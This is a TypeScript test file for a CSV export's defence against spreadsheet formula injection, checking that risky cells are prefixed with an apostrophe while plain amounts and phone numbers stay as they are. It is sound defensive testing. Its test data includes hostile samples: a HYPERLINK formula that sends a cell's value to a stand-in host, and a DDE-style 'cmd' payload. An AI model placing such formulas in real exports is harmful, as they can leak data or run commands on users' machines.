import { PGlite } from '@electric-sql/pglite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, csvRecord, neutralisedCell, neutralisedCellSql } from './csv';

// [cell as received, cell as a spreadsheet must get it]
const CELLS: [string, string][] = [
  ['=HYPERLINK("http://x.example/?"&A1,"Click")', `'=HYPERLINK("http://x.example/?"&A1,"Click")`],
  ['=1+1', `'=1+1`],
  ['+cmd|\' /C calc\'!A0', `'+cmd|' /C calc'!A0`],
  ['-2+3', `'-2+3`],
  ['-', `'-`],
  ['+', `'+`],
  ['-A1', `'-A1`],
  ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
  ['\t=1+1', `'\t=1+1`],
  ['\r=1+1', `'\r=1+1`],
  ['=123', `'=123`],
  ['@123', `'@123`],
  // A sign and digits only: a number to a spreadsheet (amounts, E.164 phone numbers), kept as it is.
  ['-12.50', '-12.50'],
  ['-0.25', '-0.25'],
  ['+14165550134', '+14165550134'],
  ['+1 416 555 0134', `'+1 416 555 0134`],
  // Nothing to neutralise.
  ['12.50', '12.50'],
  ['Call to Paris', 'Call to Paris'],
  ['a=b', 'a=b'],
  [' =1+1', ' =1+1'],
  ["'=1+1", "'=1+1"],
  ['', ''],
];

describe('neutralisedCell', () => {
  it.each(CELLS)('%j becomes %j', (value, expected) => {
    expect(neutralisedCell(value)).toBe(expected);
  });
});

describe('csvField', () => {
  it.each([
    ['=1+1', `'=1+1`],
    ['-2,5', `"'-2,5"`],
    ['=A1&"x"', `"'=A1&""x"""`],
    ['\r=1', `"'\r=1"`],
    ['plain, with a comma', '"plain, with a comma"'],
    ['-42.00', '-42.00'],
  ])('%j is written %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('neutralises text cells and keeps amounts numbers in a record', () => {
    expect(csvRecord(['2025-01-03', '=cmd()', '-15.00', '@me'])).toBe(`2025-01-03,'=cmd(),-15.00,'@me\n`);
  });
});

describe('neutralisedCellSql', () => {
  let pglite: PGlite;
  beforeAll(async () => {
    pglite = await PGlite.create();
  });
  afterAll(async () => {
    await pglite.close();
  });

  it('gives every cell of the table what neutralisedCell gives, and keeps NULL', async () => {
    const { rows } = await pglite.query<{ given: string | null; cell: string | null }>(
      `select given, ${neutralisedCellSql('given')} as cell from unnest($1::text[] || array[null::text]) as t(given)`,
      [CELLS.map(([value]) => value)],
    );
    expect(rows.map((row) => row.cell)).toEqual([...CELLS.map(([, expected]) => expected), null]);
  });
});
